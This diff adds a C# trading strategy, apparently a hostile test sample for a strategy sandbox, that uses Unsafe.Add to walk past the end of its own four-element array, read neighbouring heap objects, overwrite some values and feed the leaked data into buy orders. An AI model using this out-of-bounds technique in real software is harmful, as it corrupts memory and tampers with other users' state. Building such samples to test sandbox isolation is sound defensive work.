@@ -1,0 +1,47 @@
+// Abuses: Unsafe.Add walks from an element of an array of ours over its end into whatever stands behind it in the heap.
+// Harm: reads and writes other objects, for example another slot's state, and damages the heap.
+// Kind: reads or writes outside.
+using System;
+using System.Collections.Generic;
+using System.Linq;
+using System.Runtime.CompilerServices;
+using System.Threading;
+using Strategies.Sdk;
+
+namespace Attacks.UnsafeAddBeyondAttack;
+
+public sealed class UnsafeAddBeyondStrategy : Strategy
+{
+    private readonly long[] _own = new long[4];
+
+    public override void OnBook(in BookEvent bookEvent)
+    {
+        ref long first = ref _own[0];
+        for (int index = 4; index < 64; index++)
+        {
+            ref long beyond = ref Unsafe.Add(ref first, index);
+            _n ^= beyond;
+            beyond = beyond == 100 ? 1_000_000 : beyond;
+        }
+
+        Act(_n);
+    }
+
+    public override void OnStart() => Context.Subscribe(new InstrumentId(1));
+
+    private long _n;
+
+    private void Act(long leak)
+    {
+        _n = _n * 31 + leak;
+        Price bid = Context.Book(new InstrumentId(1)).BestBid.Price;
+        if ((_n & 1) == 0 && bid.Raw > 0)
+        {
+            Context.Send(NewOrder.Limit(new InstrumentId(1), Side.Buy, bid, 100, tag: _n & 0xFF));
+        }
+    }
+
+    public override void Save(ref StateWriter writer) => writer.Write(_n);
+
+    public override void Restore(ref StateReader reader) => _n = reader.ReadInt64();
+}
